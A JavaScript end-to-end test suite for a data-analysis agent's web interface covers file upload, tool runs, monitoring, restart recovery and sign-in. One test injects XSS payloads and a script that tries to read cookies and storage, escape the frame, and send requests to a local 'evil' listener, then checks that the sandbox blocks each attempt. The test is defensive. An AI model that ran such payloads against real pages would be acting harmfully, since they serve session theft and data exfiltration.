/**
 * The page against the real binary: a scripted model over HTTP, then the offline analyst, then sign-in. Runs when `BA_AGENT_BIN` names
 * the binary (as `make test` does), and says that it did not otherwise.
 */
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { startModel } from "../fake-model.mjs";
import { BINARY, startBinary } from "./binary.mjs";
import { ask, assert, lastFrame, openBrowser, partsOfLastAnswer, watchDraft } from "./harness.mjs";

const skip = BINARY ? false : "BA_AGENT_BIN is not set: the real binary is not tested";
const SLOW = { timeout: 60_000 };
const CSV = `date,region,category,amount\n${Array.from({ length: 200 }, (_, row) => `2024-${String((row % 12) + 1).padStart(2, "0")}-01,${["华东", "华北", "华南"][row % 3]},家电,${row * 10 + 5}`).join("\n")}\n`;

const drop = (page, files) => page.evaluate((list) => {
  const data = new DataTransfer();
  for (const [name, text] of list) data.items.add(new File([text], name));
  for (const type of ["dragenter", "dragover", "drop"]) window.dispatchEvent(new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true }));
}, files);
const ended = (page) => page.locator("article").last().and(page.locator("[data-state=complete]")).waitFor(SLOW);

describe("the real binary with a scripted model", { skip }, () => {
  let model;
  let server;
  let browser;
  let page;
  const env = () => ({ BA_MODEL: "openai-compatible:scripted", BA_BASE_URL: model.url, BA_API_KEY: "test" });

  before(async () => {
    model = await startModel();
    server = await startBinary({ env: env() });
    browser = await openBrowser();
    page = browser.page;
    await page.goto(server.url);
  }, { timeout: 240_000 });
  after(async () => {
    await browser?.close();
    await server?.close();
    model?.close();
  });
  const quiet = () => assert.deepEqual(browser.errors, [], "the console is free of errors");

  it("serves the page with its policies, cached and compressed", async () => {
    const headers = async (path) => (await fetch(server.url + path, { headers: { "Accept-Encoding": "gzip" } })).headers;
    const root = await headers("/");
    assert.match(root.get("content-security-policy"), /default-src 'none'; script-src 'self'.*frame-src 'self'.*frame-ancestors 'none'/);
    const frame = await headers("/frame");
    assert.match(frame.get("content-security-policy"), /^sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'/);
    const html = await (await fetch(server.url)).text();
    const script = /src="(\/assets\/[^"]+\.js)"/.exec(html)[1];
    const asset = await headers(script);
    assert.match(asset.get("cache-control"), /immutable/);
    assert.equal(asset.get("content-encoding"), "gzip");
  });

  it("takes a table by drop and shows its profile", async () => {
    await page.getByRole("heading", { name: "想分析什么？" }).waitFor();
    await drop(page, [["sales.csv", CSV]]);
    await page.locator("[data-part=file][data-status=ready]").waitFor(SLOW);
    assert.match(await page.locator("[data-part=file]").innerText(), /200 行 × 4 列/);
    await browser.shot("real-profile");
  });

  it("shows a whole run: live, then every part in order", async () => {
    await watchDraft(page);
    await ask(page, "[full] 各地区销售额，同比如何？");
    await page.locator("[data-part=tools] .status").waitFor(SLOW);
    await browser.shot("real-live");
    await ended(page);
    assert.deepEqual(await page.evaluate(() => window.seen), { draft: true, json: false });
    await page.locator("[data-part=frame][data-phase=ready]").waitFor(SLOW);
    await page.waitForTimeout(300);
    await browser.shot("real-answer");
    assert.deepEqual(await partsOfLastAnswer(page), ["question", "analysis", "plan", "tools", "report", "table", "frame", "code", "code", "questions", "downloads"]);
    await page.locator("[data-part=tools] > summary").click();
    assert.deepEqual(await page.locator("[data-part=tools] .card .name").allTextContents(), ["query_database", "file_reader", "run_python"]);
    assert.equal(await page.locator("[data-part=tools] .card[data-state=ok]").count(), 3, await page.locator("[data-part=tools]").innerText());
    assert.match(await page.locator(".warnings").innerText(), /提示/);
    quiet();
  });

  it("downloads the file that Python wrote, shows its picture, and opens saved code", async () => {
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("link", { name: /growth\.csv/ }).click()]);
    assert.equal(download.suggestedFilename(), "growth.csv");
    assert.ok(await page.locator(".prose img").first().evaluate((image) => image.decode().then(() => image.naturalWidth === 120)));
    const card = page.locator("[data-part=code]").first();
    await card.getByRole("button", { name: "查看代码" }).click();
    await card.getByText("def").first().waitFor();
    quiet();
  });

  it("gives the recommended question to the input, and draws all again after a reload", async () => {
    await page.getByRole("button", { name: "按月看趋势" }).click();
    assert.equal(await page.getByRole("textbox", { name: "你的问题" }).inputValue(), "按月看趋势");
    const parts = await partsOfLastAnswer(page);
    await page.reload();
    await ended(page);
    await page.locator("[data-part=frame][data-phase=ready]").waitFor(SLOW);
    assert.deepEqual(await partsOfLastAnswer(page), parts);
    quiet();
  });

  it("shows a tool's failure, and the context of a turn", async () => {
    await ask(page, "[failing] 查一张不存在的表");
    await page.locator("article").nth(1).waitFor();
    await ended(page);
    await page.locator("article").last().locator("[data-part=tools] > summary").click();
    await page.locator("article").last().locator(".card[data-state=error]").waitFor();
    await page.getByRole("button", { name: "打开右栏" }).click();
    await page.getByRole("tab", { name: "上下文" }).click();
    await page.getByText("系统提示").waitFor(SLOW);
    await browser.shot("real-context");
    await page.getByRole("button", { name: "收起右栏" }).click();
  });

  it("stops a run that takes long", async () => {
    await ask(page, "[slow] 慢慢算");
    await page.locator(".doing", { hasText: "run_python" }).last().waitFor(SLOW);
    await page.getByRole("button", { name: "停止" }).click();
    await page.locator("article[data-state=cancelled]").waitFor(SLOW);
    quiet();
  });

  it("shows runs and a timeline in monitoring", async () => {
    await page.getByRole("link", { name: "监控" }).click();
    await page.locator("figure canvas").first().waitFor(SLOW);
    await page.getByRole("link", { name: /\[full\]/ }).last().click();
    await page.getByRole("list", { name: "运行时间线" }).waitFor(SLOW);
    assert.deepEqual((await page.locator("ol .label").allInnerTexts()).filter((label) => !label.startsWith("🧠")).sort(), ["file_reader", "query_database", "run_python"]);
    await page.waitForTimeout(300);
    await browser.shot("real-monitor");
    await page.goBack();
    await page.goBack();
    quiet();
  });

  it("keeps hostile output in its frame, under the server's own headers", async () => {
    const hits = [];
    const listener = createServer((request, response) => (hits.push(request.url), response.end("x")));
    await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
    const evil = `http://127.0.0.1:${listener.address().port}`;
    const attack = `<div id="out">…</div><script>
const tries = { cookie: () => document.cookie, storage: () => localStorage.length, parent: () => parent.document.title, top: () => { top.location = "${evil}/top" },
  open: () => { if (!window.open("${evil}/open")) throw new Error("blocked") }, rtc: () => new RTCPeerConnection(), eval: () => eval("1") };
const async = { fetch: () => fetch("${evil}/fetch", { mode: "no-cors" }), self: () => fetch("${server.url}/api/v1/conversations"), image: () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error("blocked")); i.src = "${evil}/img" }) };
(async () => { const held = []; for (const [name, run] of Object.entries(tries)) { try { run(); held.push(name + " GOT THROUGH") } catch (e) { held.push(name + " ok") } }
for (const [name, run] of Object.entries(async)) { try { await run(); held.push(name + " GOT THROUGH") } catch (e) { held.push(name + " ok") } }
document.getElementById("out").textContent = "DONE " + held.join(", ") })()</script>`;
    const count = await page.locator("article").count();
    await ask(page, `[text]<img src=x onerror="window.pwned=1"> [x](javascript:window.pwned=1)\n\n${attack}`);
    await page.locator("article").nth(count).waitFor();
    await ended(page);
    const out = (await lastFrame(page)).locator("#out", { hasText: "DONE" });
    await out.waitFor(SLOW);
    assert.equal(await out.innerText(), "DONE cookie ok, storage ok, parent ok, top ok, open ok, rtc ok, eval ok, fetch ok, self ok, image ok");
    await ask(page, `[text]<div>走</div><script>setTimeout(() => { location.href = "${evil}/leave?data=1" }, 300)</script>`);
    await page.locator("article").nth(count + 1).waitFor();
    await page.getByText("试图离开沙箱，已被阻止").waitFor(SLOW);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    assert.deepEqual(hits, []);
    listener.close();
    browser.errors.length = 0;
  });

  it("goes on after the server was killed and started again", async () => {
    const address = new URL(server.url).host;
    await ask(page, "[slow] 再慢慢算");
    await page.locator(".doing", { hasText: "run_python" }).last().waitFor(SLOW);
    await server.stop("SIGKILL");
    await page.getByText("连接中断，正在重新连接").waitFor(SLOW);
    const old = server;
    server = await startBinary({ env: env(), listen: address, dataDir: old.dataDir });
    await page.getByText("连接中断，正在重新连接").waitFor({ state: "detached", timeout: 60_000 });
    await page.getByRole("button", { name: "停止" }).click().catch(() => {});
    await page.locator("article").last().and(page.locator("[data-state=cancelled], [data-state=failed], [data-state=complete]")).waitFor({ timeout: 90_000 });
  });
});

describe("the real binary with the offline analyst", { skip }, () => {
  for (const [locale, theme, width] of [["zh-CN", "light", 1280], ["en-US", "dark", 360]]) {
    it(`loads the sample and answers in ${locale}, ${theme}, ${width} px`, { timeout: 300_000 }, async () => {
      const server = await startBinary({ env: { BA_MODEL: "offline" } });
      const browser = await openBrowser({ locale, theme, width });
      const { page } = browser;
      try {
        await page.goto(server.url);
        await page.locator("[role=note]").waitFor();
        await page.locator(".start button").first().click();
        await page.locator("[data-part=file][data-status=ready]").first().waitFor(SLOW);
        await browser.shot(`real-offline-sample-${theme}-${width}`);
        await page.locator(".questions button").first().click();
        await page.keyboard.press("Enter");
        await ended(page);
        await page.waitForTimeout(1500);
        await browser.shot(`real-offline-end-${theme}-${width}`);
        await page.locator("[data-scroller]").evaluate((node) => (node.scrollTop = 0));
        await page.waitForTimeout(300);
        await browser.shot(`real-offline-top-${theme}-${width}`);
        assert.match(await page.locator("footer .facts").last().innerText(), locale === "zh-CN" ? /离线分析器/ : /offline analyst/);
        assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), width);
        assert.equal(await page.locator("[data-part=frame][data-phase=failed]").count(), 0);
        assert.deepEqual(browser.errors, []);
      } finally {
        await browser.close();
        await server.close();
      }
    });
  }
});

describe("the real binary with sign-in", { skip }, () => {
  it("asks, refuses, lets in, and shows only one's own conversations", { timeout: 300_000 }, async () => {
    const model = await startModel();
    const server = await startBinary({ env: { BA_MODEL: "openai-compatible:scripted", BA_BASE_URL: model.url, BA_API_KEY: "test" }, listen: "0.0.0.0:0", users: { ana: "correct horse battery", bob: "staple battery horse" } });
    const browser = await openBrowser();
    const { page } = browser;
    const signIn = async (name, password) => {
      await page.getByLabel("用户名").fill(name);
      await page.getByLabel("密码").fill(password);
      await page.getByRole("button", { name: "登录" }).click();
    };
    try {
      await page.goto(server.url);
      await signIn("ana", "wrong");
      await page.getByText("用户名或密码不对").waitFor(SLOW);
      await signIn("ana", "correct horse battery");
      await page.getByRole("heading", { name: "想分析什么？" }).waitFor(SLOW);
      assert.equal(await page.evaluate(() => document.cookie), "");
      await ask(page, "[text]只有我能看");
      await ended(page);
      await page.locator("nav li").first().waitFor(SLOW);
      const hers = page.url();
      await page.getByRole("button", { name: /退出登录/ }).click();
      await signIn("bob", "staple battery horse");
      await page.getByText("这个对话不存在").waitFor(SLOW);
      assert.equal(page.url(), hers);
      assert.equal(await page.locator("nav li").count(), 0);
    } finally {
      await browser.close();
      await server.close();
      model.close();
    }
  });
});
